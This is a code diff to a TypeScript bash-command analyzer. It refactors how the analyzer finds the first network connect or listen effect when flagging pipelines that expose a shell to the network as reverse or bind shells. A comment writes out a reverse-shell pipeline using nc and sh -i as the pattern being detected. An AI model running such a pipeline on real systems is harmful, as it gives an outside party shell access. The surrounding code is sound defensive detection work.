@@ -13,7 +13,7 @@ import type {
   Redirected,
   Statement,
 } from "unbash";
-import type { Effect } from "../effect.ts";
+import type { Effect, NetConnect, NetListen } from "../effect.ts";
 import type { Stream } from "../programs/program.ts";
 import { calculate } from "./arithmetic.ts";
 import { expandText, expandWords } from "./expand-word.ts";
@@ -147,7 +147,7 @@ const SHELL_PROGRAMS: ReadonlySet<string> = new Set(["sh", "bash", "dash", "zsh"
 
 // A shell between two ends of a connection (`cat pipe | sh -i | nc host 1 > pipe`) is a shell given to the network.
 function sharedShell(machine: Machine, stages: readonly (readonly Effect[])[]): void {
-  const connection = stages.flat().find((effect) => effect.kind === "net.connect" || effect.kind === "net.listen");
+  const connection = firstConnection(stages);
   if (connection === undefined) return;
   const runs = (names: ReadonlySet<string>, plain: boolean): boolean =>
     stages.some((effects) =>
@@ -159,6 +159,13 @@ function sharedShell(machine: Machine, stages: readonly (readonly Effect[])[]): 
   if (!runs(SOCKET_PROGRAMS, false) || !runs(SHELL_PROGRAMS, true)) return;
   const host = connection.kind === "net.connect" ? connection.host : null;
   emit(machine, { kind: "net.shell", via: "pipeline", direction: host === null ? "bind" : "reverse", host });
+}
+
+function firstConnection(stages: readonly (readonly Effect[])[]): NetConnect | NetListen | undefined {
+  for (const effects of stages) {
+    for (const effect of effects) if (effect.kind === "net.connect" || effect.kind === "net.listen") return effect;
+  }
+  return undefined;
 }
 
 /** Run one command of any kind with the given standard input (null: that of the surrounding command). */
